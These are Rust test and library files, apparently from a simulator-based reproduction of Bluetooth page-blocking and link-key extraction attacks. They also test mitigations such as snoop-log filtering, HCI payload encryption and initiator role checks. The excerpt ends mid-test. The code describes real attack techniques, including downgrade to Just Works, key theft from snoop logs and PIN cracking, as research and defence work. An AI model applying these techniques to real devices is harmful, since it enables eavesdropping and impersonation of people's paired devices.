    fn quick(victim: DeviceProfile, seed: u64) -> PageBlockingScenario {
        let mut s = PageBlockingScenario::new(victim, seed);
        s.trials = 20; // keep unit tests fast; benches run the full 100
        s
    }

    #[test]
    fn blocking_trial_is_deterministic_mitm() {
        let scenario = quick(profiles::galaxy_s8(), 3);
        for trial in 0..5 {
            let outcome = scenario.run_blocking_trial(trial);
            assert!(outcome.mitm_established, "trial {trial} must hit");
            assert!(outcome.paired_with_attacker, "trial {trial} must pair");
            assert!(outcome.downgraded_to_just_works);
            assert!(outcome.fig12b_signature);
            assert!(
                !outcome.popup_had_number,
                "Just Works must not display a comparable value"
            );
            assert!(!outcome.honest_pairing);
        }
    }

    #[test]
    fn baseline_is_a_race() {
        let scenario = quick(profiles::galaxy_s8(), 4);
        let outcomes: Vec<TrialOutcome> = (0..20).map(|t| scenario.run_baseline_trial(t)).collect();
        let wins = outcomes.iter().filter(|o| o.mitm_established).count();
        assert!(
            wins > 0 && wins < 20,
            "a 42% race over 20 trials should win some and lose some, won {wins}"
        );
        // Losing trials pair honestly with C.
        assert!(outcomes
            .iter()
            .any(|o| !o.mitm_established && o.honest_pairing));
    }

    #[test]
    fn full_row_shape_matches_paper() {
        let mut scenario = quick(profiles::pixel_2_xl(), 5);
        scenario.trials = 30;
        let row = scenario.run();
        assert_eq!(row.measured_blocking_rate, 1.0, "page blocking is 100%");
        assert!(
            (row.measured_baseline_rate - row.paper_baseline_rate).abs() < 0.25,
            "baseline {} should sit near the paper's {}",
            row.measured_baseline_rate,
            row.paper_baseline_rate
        );
        assert!(row.downgraded_to_just_works);
        assert!(row.fig12b_signature);
    }

    #[test]
    fn attacker_io_capability_is_noio() {
        // The downgrade premise: the attacker spec really advertises no IO.
        let spec = profiles::attacker_nexus_5x(addrs::C);
        assert_eq!(
            spec.host.io_capability,
            blap_types::IoCapability::NoInputNoOutput
        );
    }

    #[test]
    fn without_keepalive_long_wait_kills_ploc() {
        let mut scenario = quick(profiles::galaxy_s8(), 6);
        scenario.keepalive = false;
        // User takes longer than the link supervision timeout to pair.
        scenario.pairing_delay = Duration::from_secs(25);
        scenario.ploc_delay = Duration::from_secs(40);
        let outcome = scenario.run_blocking_trial(0);
        assert!(
            !outcome.paired_with_attacker,
            "an unmaintained PLOC link must die before pairing"
        );
    }

    #[test]
    fn keepalive_survives_long_wait() {
        let mut scenario = quick(profiles::galaxy_s8(), 7);
        scenario.keepalive = true;
        scenario.pairing_delay = Duration::from_secs(25);
        scenario.ploc_delay = Duration::from_secs(40);
        let outcome = scenario.run_blocking_trial(0);
        assert!(outcome.mitm_established);
        assert!(outcome.paired_with_attacker);
    }
}
