//! §VII: mitigations, demonstrated effective against the attacks.
//!
//! Three defences, each switchable independently so the benches can run
//! ablations:
//!
//! * **Dump filtering** (§VII-A, first proposal) — the snoop module logs
//!   only the header of link-key packets. Stops snoop-log extraction but
//!   *not* hardware taps (the paper says as much; the USB case motivates
//!   the second mitigation).
//! * **HCI payload encryption** (§VII-A, second proposal) — link-key
//!   payloads cross HCI encrypted under a host↔controller session secret.
//!   Stops both snoop and USB extraction.
//! * **Connection-initiator role check** (§VII-B) — a host initiating
//!   pairing over a link it did not initiate, toward a `NoInputNoOutput`
//!   peer, aborts. Stops page blocking without breaking honest pairings.

use blap_sim::DeviceProfile;
use blap_types::Duration;

use crate::link_key_extraction::{ExtractionReport, ExtractionScenario};
use crate::page_blocking::{PageBlockingScenario, TrialOutcome};

/// Which mitigation a verdict concerns.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Mitigation {
    /// Snoop-log link-key redaction.
    DumpFiltering,
    /// Host↔controller payload encryption for key material.
    HciPayloadEncryption,
    /// Pairing-initiator vs connection-initiator role check.
    InitiatorRoleCheck,
}

impl std::fmt::Display for Mitigation {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            Mitigation::DumpFiltering => f.write_str("HCI dump link-key filtering"),
            Mitigation::HciPayloadEncryption => f.write_str("HCI link-key payload encryption"),
            Mitigation::InitiatorRoleCheck => f.write_str("connection-initiator role check"),
        }
    }
}

/// Outcome of testing one mitigation against its attack.
#[derive(Clone, Debug)]
pub struct MitigationVerdict {
    /// The mitigation under test.
    pub mitigation: Mitigation,
    /// Whether the attack still succeeded with the mitigation deployed.
    pub attack_succeeded: bool,
    /// Human-readable evidence.
    pub evidence: String,
}

/// Runs the link key extraction attack against a soft target with the
/// snoop-filter mitigation deployed.
pub fn extraction_with_dump_filtering(
    soft_target: DeviceProfile,
    seed: u64,
) -> (ExtractionReport, MitigationVerdict) {
    let mut scenario = ExtractionScenario::new(soft_target, seed);
    scenario.mitigate_filter_dump = true;
    let report = scenario.run();
    let verdict = MitigationVerdict {
        mitigation: Mitigation::DumpFiltering,
        attack_succeeded: report.vulnerable(),
        evidence: match (&report.extracted_key, report.key_matches) {
            (None, _) => "no key present in the filtered dump".to_owned(),
            (Some(k), false) => format!("dump yielded redacted bytes {k}, not the bond key"),
            (Some(_), true) => "ATTACK STILL WORKS: real key recovered".to_owned(),
        },
    };
    (report, verdict)
}

/// Runs the extraction attack with HCI payload encryption deployed.
pub fn extraction_with_payload_encryption(
    soft_target: DeviceProfile,
    seed: u64,
) -> (ExtractionReport, MitigationVerdict) {
    let mut scenario = ExtractionScenario::new(soft_target, seed);
    scenario.mitigate_encrypt_payload = true;
    let report = scenario.run();
    let verdict = MitigationVerdict {
        mitigation: Mitigation::HciPayloadEncryption,
        attack_succeeded: report.vulnerable(),
        evidence: match (&report.extracted_key, report.key_matches) {
            (None, _) => "captured payloads no longer parse as key material".to_owned(),
            (Some(k), false) => {
                format!("capture yielded ciphertext {k}; impersonation failed")
            }
            (Some(_), true) => "ATTACK STILL WORKS: real key recovered".to_owned(),
        },
    };
    (report, verdict)
}

/// Runs the page blocking attack against a victim deploying the §VII-B
/// role check.
pub fn page_blocking_with_role_check(
    victim: DeviceProfile,
    seed: u64,
) -> (TrialOutcome, MitigationVerdict) {
    let mut scenario = PageBlockingScenario::new(victim, seed);
    scenario.mitigate_role_check = true;
    scenario.pairing_delay = Duration::from_secs(2);
    let outcome = scenario.run_blocking_trial(0);
    let verdict = MitigationVerdict {
        mitigation: Mitigation::InitiatorRoleCheck,
        attack_succeeded: outcome.paired_with_attacker,
        evidence: if outcome.security_alert {
            "host raised a security alert and dropped the pairing".to_owned()
        } else if outcome.paired_with_attacker {
            "ATTACK STILL WORKS: attacker paired".to_owned()
        } else {
            "pairing did not complete with the attacker".to_owned()
        },
    };
    (outcome, verdict)
}

/// Tests the long-term key-type-downgrade defence at the host layer: a
/// host holding an *authenticated* bond for a peer receives a fresh
/// *unauthenticated* (Just Works) key for the same address — exactly what a
/// successful page blocking re-pair produces. The defended host must keep
/// the old bond and raise an alert.
///
/// Returns `(old_bond_survived, alert_fired)`.
pub fn downgrade_detection_probe(victim: DeviceProfile, enabled: bool) -> (bool, bool) {
    use blap_hci::Event;
    use blap_host::{Host, HostOutput, UiNotification};
    use blap_types::{Instant, LinkKey, LinkKeyType};

    let c_addr: blap_types::BdAddr = crate::addrs::C.parse().expect("valid address");
    let mut config = blap_host::HostConfig::phone(victim.version);
    config.mitigations.detect_key_type_downgrade = enabled;
    let mut host = Host::new(config);
    let genuine: LinkKey = "5ca1ab1e5ca1ab1e5ca1ab1e5ca1ab1e"
        .parse()
        .expect("valid key");
    host.install_bond(
        c_addr,
        blap_host::keystore::BondEntry {
            name: None,
            link_key: genuine,
            key_type: LinkKeyType::AuthenticatedP256,
            services: vec![],
        },
    );
    // The attacker-driven Just Works pairing completes and delivers its
    // unauthenticated key.
    let attacker_key: LinkKey = "baadf00dbaadf00dbaadf00dbaadf00d"
        .parse()
        .expect("valid key");
    host.on_event(
        Instant::EPOCH,
        Event::LinkKeyNotification {
            bd_addr: c_addr,
            link_key: attacker_key,
            key_type: LinkKeyType::UnauthenticatedP256,
        },
    );
    let outputs = host.drain_outputs();
    let alert = outputs
        .iter()
        .any(|o| matches!(o, HostOutput::Ui(UiNotification::SecurityAlert { .. })));
    let old_survived = host
        .keystore()
        .get(c_addr)
        .map(|b| b.link_key == genuine && b.key_type == LinkKeyType::AuthenticatedP256)
        .unwrap_or(false);
    (old_survived, alert)
}

/// Confirms the role check does not break honest pairing (false-positive
/// check): a victim with the mitigation pairs normally with a genuine
/// accessory.
pub fn role_check_false_positive_probe(victim: DeviceProfile, seed: u64) -> bool {
    use blap_sim::{profiles, World};
    let mut world = World::new(seed);
    let mut m_spec = victim.victim_phone(crate::addrs::M);
    m_spec.host.mitigations.reject_noio_connection_initiator = true;
    let m = world.add_device(m_spec);
    let _c = world.add_device(profiles::car_kit(crate::addrs::C));
    let c_addr = crate::addrs::C.parse().expect("valid address");
    world.device_mut(m).host.pair_with(c_addr);
    world.run_for(Duration::from_secs(10));
    world.device(m).host.keystore().get(c_addr).is_some()
}

#[cfg(test)]
mod tests {
    use super::*;
    use blap_sim::profiles;

    #[test]
    fn dump_filtering_stops_snoop_extraction() {
        let (report, verdict) = extraction_with_dump_filtering(profiles::nexus_5x_a8(), 21);
        assert!(!verdict.attack_succeeded, "{}", verdict.evidence);
        assert!(!report.key_matches);
    }

    #[test]
    fn payload_encryption_stops_usb_extraction() {
        let (report, verdict) =
            extraction_with_payload_encryption(profiles::windows_ms_driver(), 22);
        assert!(!verdict.attack_succeeded, "{}", verdict.evidence);
        assert!(!report.key_matches);
        assert!(
            !report.impersonation_validated,
            "a ciphertext key must not authenticate"
        );
    }

    #[test]
    fn payload_encryption_also_covers_snoop() {
        let (report, verdict) = extraction_with_payload_encryption(profiles::nexus_5x_a8(), 23);
        assert!(!verdict.attack_succeeded, "{}", verdict.evidence);
        assert!(!report.key_matches);
    }

    #[test]
    fn role_check_stops_page_blocking() {
        let (outcome, verdict) = page_blocking_with_role_check(profiles::galaxy_s8(), 24);
        assert!(!verdict.attack_succeeded, "{}", verdict.evidence);
        assert!(outcome.security_alert, "the mitigation must fire visibly");
        assert!(!outcome.paired_with_attacker);
    }

    #[test]
    fn downgrade_detection_keeps_authenticated_bond() {
        let (survived, alert) = downgrade_detection_probe(profiles::galaxy_s21(), true);
        assert!(survived, "the authenticated bond must survive");
        assert!(alert, "the downgrade must be surfaced to the user");
        // Without the mitigation, the unauthenticated key silently replaces
        // the bond — the status quo the paper attacks.
        let (survived, alert) = downgrade_detection_probe(profiles::galaxy_s21(), false);
        assert!(!survived, "undefended hosts accept the downgrade");
        assert!(!alert);
    }

    #[test]
    fn role_check_keeps_honest_pairing_working() {
        assert!(
            role_check_false_positive_probe(profiles::galaxy_s8(), 25),
            "mitigation must not break legitimate accessory pairing"
        );
    }
}
