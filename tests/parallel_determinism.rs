//! Cross-cutting guarantees of the parallel experiment engine and the
//! P-256 fast path.
//!
//! Two properties keep the paper's tables trustworthy after the perf work:
//!
//! 1. **Schedule invisibility** — every experiment driver must produce
//!    byte-identical output at any worker count, because reviewers compare
//!    table rows produced on machines with different core counts.
//! 2. **Fast-path equivalence** — the windowed-NAF / fixed-base scalar
//!    multiplication must agree with the retained textbook double-and-add
//!    on every scalar, including the edge cases that break windowed
//!    recodings (0, 1, n−1).

use blap::campaign::{Campaign, Population};
use blap::legacy_pin::{crack_numeric_pin_with, LegacyPairingCapture};
use blap::link_key_extraction::ExtractionScenario;
use blap::runner::{seed_for, Jobs};
use blap_bench::{run_table1_observed_with, run_table2_observed_with, run_table2_with};
use blap_crypto::p256::{generator, group_order, KeyPair, Point, Scalar};
use blap_obs::{
    analyze_trace, diff_metrics, diff_traces, prof, telemetry, FlightRecorder, Metrics, Tracer,
};
use proptest::prelude::*;

#[test]
fn table2_rows_identical_across_worker_counts() {
    let serial = run_table2_with(1701, 6, Jobs::serial());
    assert_eq!(serial.len(), 7, "Table II has seven device rows");
    for jobs in [4, 8] {
        let parallel = run_table2_with(1701, 6, Jobs::new(jobs));
        assert_eq!(parallel, serial, "{jobs} jobs diverged from serial");
    }
}

#[test]
fn table2_seed_still_drives_the_experiment() {
    // Determinism must come from the seed, not from accidentally constant
    // output: a different seed has to move at least one sampled field.
    let a = run_table2_with(1701, 6, Jobs::new(4));
    let b = run_table2_with(90210, 6, Jobs::new(4));
    assert_ne!(a, b, "seed change must alter the sampled rows");
}

#[test]
fn table2_observability_artifacts_identical_across_worker_counts() {
    // The tentpole guarantee: not just the rows but the *observability
    // artifacts* — the JSONL trace and the merged metrics document — must
    // be byte-identical at any worker count, because CI diffs them.
    let serial = run_table2_observed_with(1701, 3, Jobs::serial());
    assert!(!serial.trace.is_empty(), "trace must capture events");
    assert!(!serial.metrics.is_empty(), "metrics must capture counters");
    let serial_metrics = serial.metrics.to_json();
    for jobs in [4, 8] {
        let parallel = run_table2_observed_with(1701, 3, Jobs::new(jobs));
        assert_eq!(parallel.rows, serial.rows, "{jobs} jobs rows diverged");
        assert_eq!(
            parallel.trace, serial.trace,
            "{jobs} jobs trace diverged from serial"
        );
        assert_eq!(
            parallel.metrics.to_json(),
            serial_metrics,
            "{jobs} jobs metrics diverged from serial"
        );
    }
}

#[test]
fn table2_trace_carries_spans_and_passes_invariant_checks() {
    // The causal span layer rides the same determinism guarantee as the
    // flat events, and a healthy run must satisfy every trace invariant.
    let observed = run_table2_observed_with(1701, 2, Jobs::new(4));
    assert!(
        observed.trace.contains("\"ev\":\"span_open\""),
        "trace must carry span_open events"
    );
    assert!(
        observed.trace.contains("\"name\":\"trial\""),
        "every trial opens a root span"
    );
    assert!(
        observed.trace.contains("\"name\":\"lmp_auth\""),
        "LMP authentication must be spanned"
    );
    assert!(
        observed.trace.contains("\"name\":\"ploc\""),
        "blocking trials hold PLOC spans"
    );
    let analysis = analyze_trace(&observed.trace).expect("trace parses");
    assert!(
        analysis.ok(),
        "healthy run must satisfy all invariants:\n{}",
        analysis.report()
    );
    // A run diffed against itself reports no drift, for both artifacts.
    assert!(diff_traces(&observed.trace, &observed.trace).no_drift());
    let metrics_json = observed.metrics.to_json();
    assert!(diff_metrics(&metrics_json, &metrics_json)
        .expect("metrics parse")
        .no_drift());
}

#[test]
fn table1_trace_passes_invariant_checks() {
    let observed = run_table1_observed_with(1701, Jobs::new(4));
    assert!(
        observed.trace.contains("\"detail\":\"extraction\""),
        "extraction trials label their root span"
    );
    let analysis = analyze_trace(&observed.trace).expect("trace parses");
    assert!(
        analysis.ok(),
        "healthy run must satisfy all invariants:\n{}",
        analysis.report()
    );
}

#[test]
fn profiling_never_perturbs_deterministic_artifacts() {
    // The sidecar rule: the wall-time profiler may never leak into the
    // deterministic artifacts. Byte-compare trace and metrics with
    // profiling off vs on, at one worker and at eight.
    prof::set_enabled(false);
    let off = run_table2_observed_with(1701, 2, Jobs::serial());
    for jobs in [Jobs::serial(), Jobs::new(8)] {
        prof::set_enabled(true);
        let on = run_table2_observed_with(1701, 2, jobs);
        prof::set_enabled(false);
        assert_eq!(
            on.trace,
            off.trace,
            "profiling changed the trace at {} jobs",
            jobs.get()
        );
        assert_eq!(
            on.metrics.to_json(),
            off.metrics.to_json(),
            "profiling changed the metrics at {} jobs",
            jobs.get()
        );
        // The profiler itself did record the run it observed.
        assert!(
            !prof::report().is_empty(),
            "profiled run must record scopes"
        );
        prof::reset();
    }
}

#[test]
fn telemetry_never_perturbs_deterministic_artifacts() {
    // The live telemetry tier rides the same sidecar rule as the
    // profiler: flipping the dashboard on may never change a byte of
    // the deterministic artifacts — the JSONL trace, the metrics
    // document, the checked campaign's violation summary, or the
    // checkpoint bag a `--resume` run stores — at any worker count.
    telemetry::set_enabled(false);
    let off = run_table2_observed_with(1701, 2, Jobs::serial());
    let campaign = Campaign {
        population: Population::fleet(),
        trials: 32,
        shards: 2,
        seed: 7,
    };
    let (off_metrics, off_summary) = campaign.run_checked(Jobs::serial());
    let off_checkpoint = campaign.run_shards(Jobs::serial(), 0, 1).to_json();
    for jobs in [Jobs::serial(), Jobs::new(8)] {
        telemetry::begin_session(telemetry::SessionTotals::default());
        telemetry::set_enabled(true);
        let on = run_table2_observed_with(1701, 2, jobs);
        let (on_metrics, on_summary) = campaign.run_checked(jobs);
        let on_checkpoint = campaign.run_shards(jobs, 0, 1).to_json();
        // The hub did observe the runs it watched...
        let snapshot = telemetry::sample(0, None, 0);
        telemetry::set_enabled(false);
        assert!(
            snapshot.trials > 0,
            "telemetry-on run must record trials into the hub"
        );
        // ...without leaking a single byte into any artifact.
        assert_eq!(
            on.trace,
            off.trace,
            "telemetry changed the trace at {} jobs",
            jobs.get()
        );
        assert_eq!(
            on.metrics.to_json(),
            off.metrics.to_json(),
            "telemetry changed the metrics at {} jobs",
            jobs.get()
        );
        assert_eq!(
            on_metrics.to_json(),
            off_metrics.to_json(),
            "telemetry changed the checked campaign metrics at {} jobs",
            jobs.get()
        );
        assert_eq!(
            on_summary.to_json(),
            off_summary.to_json(),
            "telemetry changed the violation summary at {} jobs",
            jobs.get()
        );
        assert_eq!(
            on_checkpoint,
            off_checkpoint,
            "telemetry changed the checkpoint bag at {} jobs",
            jobs.get()
        );
    }
    telemetry::reset();
}

#[test]
fn table2_observed_rows_match_unobserved_rows() {
    // Attaching observability must not perturb the experiment itself.
    let observed = run_table2_observed_with(1701, 3, Jobs::new(4));
    assert_eq!(observed.rows, run_table2_with(1701, 3, Jobs::new(4)));
}

#[test]
fn table1_observability_artifacts_identical_across_worker_counts() {
    let serial = run_table1_observed_with(1701, Jobs::serial());
    assert!(!serial.trace.is_empty());
    let serial_metrics = serial.metrics.to_json();
    for jobs in [4, 8] {
        let parallel = run_table1_observed_with(1701, Jobs::new(jobs));
        assert_eq!(parallel.trace, serial.trace, "{jobs} jobs trace diverged");
        assert_eq!(parallel.metrics.to_json(), serial_metrics);
    }
}

#[test]
fn flight_recorder_captures_extraction_tail() {
    // The debugging loop ISSUE 2 targets: run a world with a flight
    // recorder armed, and the ring buffer holds the (bounded) event tail
    // ready to print if an assertion below were to fail.
    let tracer = Tracer::new();
    let recorder = FlightRecorder::new(64);
    tracer.attach(recorder.clone());
    let _guard = recorder.dump_on_assert(16);

    let (report, metrics) =
        ExtractionScenario::new(blap_sim::profiles::nexus_5x_a8(), 1).run_observed(&tracer);
    assert!(report.vulnerable());
    assert!(
        recorder.total_recorded() > 64,
        "a full run emits many events"
    );
    assert_eq!(recorder.len(), 64, "ring buffer stays at capacity");
    assert!(metrics.counter("pages_connected") > 0);
    assert!(metrics.counter("dev1.snoop_packets") > 0);
    let dump = recorder.dump(4);
    assert!(dump.starts_with("--- flight recorder"));
    assert_eq!(dump.lines().count(), 6, "header + 4 events + footer");
}

#[test]
fn pin_crack_identical_across_worker_counts() {
    let capture = LegacyPairingCapture::synthesize(
        "11:11:11:11:11:11".parse().expect("valid address"),
        "cc:cc:cc:cc:cc:cc".parse().expect("valid address"),
        b"73019",
        [0x11; 16],
        [0x22; 16],
        [0x33; 16],
        [0x44; 16],
    );
    let serial = crack_numeric_pin_with(&capture, 5, Jobs::serial());
    assert!(serial.is_some(), "five-digit PIN must crack");
    for jobs in [4, 8] {
        assert_eq!(
            crack_numeric_pin_with(&capture, 5, Jobs::new(jobs)),
            serial,
            "{jobs} jobs diverged from serial"
        );
    }
}

#[test]
fn campaign_metrics_identical_across_worker_counts() {
    // The fleet-scale sweep inherits the tentpole guarantee: the merged
    // campaign metrics document is byte-identical at any worker count.
    // This is also the regression net for the `World::route` tie-break:
    // with two live links claiming the same spoofed address, the routed
    // link used to follow hash-map iteration order, which differs between
    // worker threads — blocking-trial LMP/snoop counters drifted across
    // `BLAP_JOBS` values until the link table became ordered.
    let campaign = Campaign {
        population: Population::fleet(),
        trials: 96,
        shards: 6,
        seed: 1701,
    };
    let serial = campaign.run(Jobs::serial()).to_json();
    assert!(serial.contains("\"campaign.trials\":96"), "{serial}");
    for jobs in [4, 8] {
        assert_eq!(
            campaign.run(Jobs::new(jobs)).to_json(),
            serial,
            "{jobs} jobs diverged from serial"
        );
    }
}

#[test]
fn checked_campaign_is_schedule_invisible_and_clean() {
    // `--check-invariants` inherits both campaign guarantees: the merged
    // metrics bag AND the violation summary are byte-identical at any
    // worker count (shard-order merging, not completion-order), and a
    // healthy fleet campaign is clean — the live checker found real
    // modeling gaps during bring-up, so "clean" is a statement about the
    // checker and the simulator agreeing, not a vacuous pass.
    let campaign = Campaign {
        population: Population::fleet(),
        trials: 64,
        shards: 4,
        seed: 7,
    };
    let (serial_metrics, serial_summary) = campaign.run_checked(Jobs::serial());
    assert!(serial_summary.is_clean(), "{}", serial_summary.render());
    assert_eq!(serial_summary.trials_checked, 64, "every trial is checked");
    for jobs in [4, 8] {
        let (metrics, summary) = campaign.run_checked(Jobs::new(jobs));
        assert_eq!(
            metrics.to_json(),
            serial_metrics.to_json(),
            "{jobs} jobs metrics diverged from serial"
        );
        assert_eq!(
            summary.to_json(),
            serial_summary.to_json(),
            "{jobs} jobs summary diverged from serial"
        );
        assert_eq!(summary.render(), serial_summary.render());
    }
}

#[test]
fn invariant_checking_is_a_pure_observer() {
    // Feeding every shard's events through the streaming checker must not
    // perturb the experiment: the merged metrics match the unchecked run
    // byte for byte.
    let campaign = Campaign {
        population: Population::mitigated(),
        trials: 48,
        shards: 3,
        seed: 99,
    };
    let unchecked = campaign.run(Jobs::new(4)).to_json();
    let (checked, summary) = campaign.run_checked(Jobs::new(4));
    assert_eq!(checked.to_json(), unchecked, "checking changed the metrics");
    assert!(summary.is_clean(), "{}", summary.render());
}

#[test]
fn campaign_checkpoint_resume_split_is_byte_identical() {
    // The `blap-campaign` checkpoint contract end to end: aggregate a
    // prefix of the shards, serialize the partial bag to JSON (exactly
    // what the checkpoint file stores), parse it back, then merge the
    // remaining shards — the result must match a straight run byte for
    // byte, at mixed worker counts on the two sides of the split.
    let campaign = Campaign {
        population: Population::mitigated(),
        trials: 90,
        shards: 5,
        seed: 42,
    };
    let whole = campaign.run(Jobs::new(4)).to_json();
    let prefix = campaign.run_shards(Jobs::serial(), 0, 2);
    let mut resumed = Metrics::parse_json(&prefix.to_json()).expect("checkpoint bag round-trips");
    resumed.merge(&campaign.run_shards(Jobs::new(8), 2, 5));
    assert_eq!(resumed.to_json(), whole);
}

#[test]
fn seed_derivation_is_stable() {
    // Pin the derivation itself: if seed_for changes, every table silently
    // resamples and historical EXPERIMENTS.md numbers stop reproducing.
    assert_eq!(seed_for(0, 0), 0xe220_a839_7b1d_cdaf);
    assert_eq!(seed_for(1701, 3), seed_for(1701, 3));
}

#[test]
fn scalar_mul_edge_cases_match_reference() {
    let g = generator();
    let n = group_order();

    // k = 0: both paths land on the point at infinity.
    let zero = Scalar::from_u256(blap_crypto::bigint::U256::ZERO);
    assert_eq!(g.mul(&zero), Point::Infinity);
    assert_eq!(g.mul_double_and_add(&zero), Point::Infinity);

    // k = 1: identity of the multiplication.
    let one = Scalar::from_u64(1);
    assert_eq!(g.mul(&one), g);
    assert_eq!(g.mul_double_and_add(&one), g);

    // k = n − 1 ≡ −1: the negation of the generator (same x, mirrored y).
    // (0 − 1) mod n = n − 1.
    let n_minus_1 = Scalar::from_u256(
        blap_crypto::bigint::U256::ZERO.sub_mod(blap_crypto::bigint::U256::ONE, n),
    );
    let fast = g.mul(&n_minus_1);
    assert_eq!(fast, g.mul_double_and_add(&n_minus_1));
    assert_eq!(fast.x(), g.x(), "−G shares G's x-coordinate");
    assert_ne!(fast.y(), g.y(), "−G mirrors G's y-coordinate");
}

proptest! {
    #[test]
    fn wnaf_matches_double_and_add_on_generator(bytes in any::<[u8; 32]>()) {
        let k = Scalar::from_be_bytes(bytes);
        prop_assert_eq!(generator().mul(&k), generator().mul_double_and_add(&k));
    }

    #[test]
    fn wnaf_matches_double_and_add_on_arbitrary_points(seed in any::<[u8; 32]>(),
                                                       bytes in any::<[u8; 32]>()) {
        // A non-generator base point exercises the wNAF path rather than
        // the fixed-base table. A zero-scalar seed yields no key pair and
        // nothing to test.
        if let Ok(kp) = KeyPair::from_rng_bytes(seed) {
            let base = kp.public();
            let k = Scalar::from_be_bytes(bytes);
            prop_assert_eq!(base.mul(&k), base.mul_double_and_add(&k));
        }
    }
}
