//! End-to-end integration tests for the link key extraction attack across
//! the Table I catalog, plus the §VII-A mitigations.

use blap_repro::attacks::extract::ExtractionChannel;
use blap_repro::attacks::link_key_extraction::ExtractionScenario;
use blap_repro::attacks::mitigations;
use blap_repro::sim::profiles;

#[test]
fn every_table1_profile_is_vulnerable() {
    // The paper's headline result: all nine configurations leak.
    for (i, profile) in profiles::table1_profiles().into_iter().enumerate() {
        let report = ExtractionScenario::new(profile, 300 + i as u64).run();
        assert!(
            report.vulnerable(),
            "{} / {} should be vulnerable: {report:?}",
            profile.os,
            profile.stack
        );
    }
}

#[test]
fn channel_matches_transport() {
    // Android rows leak through the snoop log, dongle rows through USB.
    let android = ExtractionScenario::new(profiles::pixel_2_xl(), 310).run();
    assert_eq!(android.channel, Some(ExtractionChannel::HciSnoopLog));

    let windows = ExtractionScenario::new(profiles::windows_ms_driver(), 311).run();
    assert_eq!(windows.channel, Some(ExtractionChannel::UsbSniffer));
}

#[test]
fn extraction_preserves_the_victims_bond() {
    // §IV-C: dropping the LMP authentication via timeout (not failure)
    // keeps C's stored key valid — the attack is repeatable.
    let report = ExtractionScenario::new(profiles::lg_v50(), 312).run();
    assert!(report.victim_bond_intact);
    // Run it again against the same profile: it still works.
    let again = ExtractionScenario::new(profiles::lg_v50(), 312).run();
    assert!(again.vulnerable());
}

#[test]
fn impersonation_is_silent_on_the_hard_target() {
    let report = ExtractionScenario::new(profiles::galaxy_s21(), 313).run();
    assert!(report.impersonation_validated);
    assert!(
        !report.victim_saw_pairing_ui,
        "M must not see any pairing UI during the impersonation"
    );
}

#[test]
fn dump_filtering_blocks_snoop_but_is_bypassed_by_usb() {
    // Mitigation 1 stops the software dump...
    let (_, verdict) = mitigations::extraction_with_dump_filtering(profiles::galaxy_s8(), 320);
    assert!(!verdict.attack_succeeded);

    // ...but on a USB-transport target the hardware tap never sees the
    // filter: the attack still works, which is exactly why the paper also
    // proposes payload encryption.
    let mut scenario = ExtractionScenario::new(profiles::windows_csr_harmony(), 321);
    scenario.mitigate_filter_dump = true;
    let report = scenario.run();
    assert!(
        report.vulnerable(),
        "dump filtering alone must not stop a USB analyzer"
    );
}

#[test]
fn payload_encryption_blocks_both_channels() {
    let (_, usb_verdict) =
        mitigations::extraction_with_payload_encryption(profiles::windows_csr_harmony(), 322);
    assert!(!usb_verdict.attack_succeeded, "{}", usb_verdict.evidence);

    let (_, snoop_verdict) =
        mitigations::extraction_with_payload_encryption(profiles::nexus_5x_a8(), 323);
    assert!(
        !snoop_verdict.attack_succeeded,
        "{}",
        snoop_verdict.evidence
    );
}

#[test]
fn extraction_is_deterministic_per_seed() {
    let a = ExtractionScenario::new(profiles::ubuntu_bluez(), 324).run();
    let b = ExtractionScenario::new(profiles::ubuntu_bluez(), 324).run();
    assert_eq!(a.extracted_key, b.extracted_key);
    assert_eq!(a.channel, b.channel);
    assert_eq!(a.vulnerable(), b.vulnerable());
}

#[test]
fn one_dump_leaks_every_bond_the_target_holds() {
    // A shared soft target (e.g. a family car's phone slot) bonded with
    // several phones leaks all of their keys through one snoop log —
    // pairing alone writes each key via HCI_Link_Key_Notification.
    use blap_repro::sim::{profiles, World};
    use blap_repro::types::Duration;

    let mut world = World::new(330);
    let c = world.add_device(profiles::galaxy_s8().soft_target("00:1b:7d:da:71:0a"));
    let phones = [
        ("48:90:12:34:56:01", profiles::lg_velvet()),
        ("48:90:12:34:56:02", profiles::pixel_2_xl()),
        ("48:90:12:34:56:03", profiles::galaxy_s21()),
    ];
    for (addr, profile) in &phones {
        let _ = world.add_device(profile.victim_phone(addr));
    }
    for (addr, _) in &phones {
        let peer = addr.parse().expect("valid address");
        world.device_mut(c).host.pair_with(peer);
        world.run_for(Duration::from_secs(5));
        world.device_mut(c).host.disconnect(peer);
        world.run_for(Duration::from_secs(2));
    }

    let leaked = blap_repro::attacks::extract::all_from_snoop_log(world.device(c));
    for (addr, _) in &phones {
        let peer: blap_repro::types::BdAddr = addr.parse().expect("valid address");
        let stored = world
            .device(c)
            .host
            .keystore()
            .get(peer)
            .expect("bond stored")
            .link_key;
        assert!(
            leaked.iter().any(|(a, k)| *a == peer && *k == stored),
            "dump must leak the bond for {addr}"
        );
    }
    assert!(leaked.len() >= phones.len());
}
