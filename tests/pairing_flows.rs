//! Integration tests for the baseline protocol machinery (Fig 2 of the
//! paper): Secure Simple Pairing for non-bonded devices and LMP
//! authentication for bonded ones, across the crate boundaries
//! (host ↔ controller ↔ baseband ↔ crypto).

use blap_repro::host::UiNotification;
use blap_repro::sim::{profiles, World};
use blap_repro::types::{BdAddr, Duration, LinkKeyType, ServiceUuid};

fn addr(s: &str) -> BdAddr {
    s.parse().expect("valid address")
}

const PHONE: &str = "48:90:12:34:56:78";
const KIT: &str = "00:1b:7d:da:71:0a";

#[test]
fn fig2a_fresh_ssp_pairing_derives_shared_key() {
    let mut world = World::new(100);
    let phone = world.add_device(profiles::lg_velvet().victim_phone(PHONE));
    let kit = world.add_device(profiles::car_kit(KIT));

    world.device_mut(phone).host.pair_with(addr(KIT));
    world.run_for(Duration::from_secs(5));

    let phone_bond = world.device(phone).host.keystore().get(addr(KIT)).cloned();
    let kit_bond = world.device(kit).host.keystore().get(addr(PHONE)).cloned();
    let phone_bond = phone_bond.expect("phone bonded");
    let kit_bond = kit_bond.expect("kit bonded");
    assert_eq!(phone_bond.link_key, kit_bond.link_key);
    // Car-kit has no IO: Just Works, so the key is unauthenticated.
    assert_eq!(phone_bond.key_type, LinkKeyType::UnauthenticatedP256);
}

#[test]
fn fig2a_numeric_comparison_between_two_phones() {
    let mut world = World::new(101);
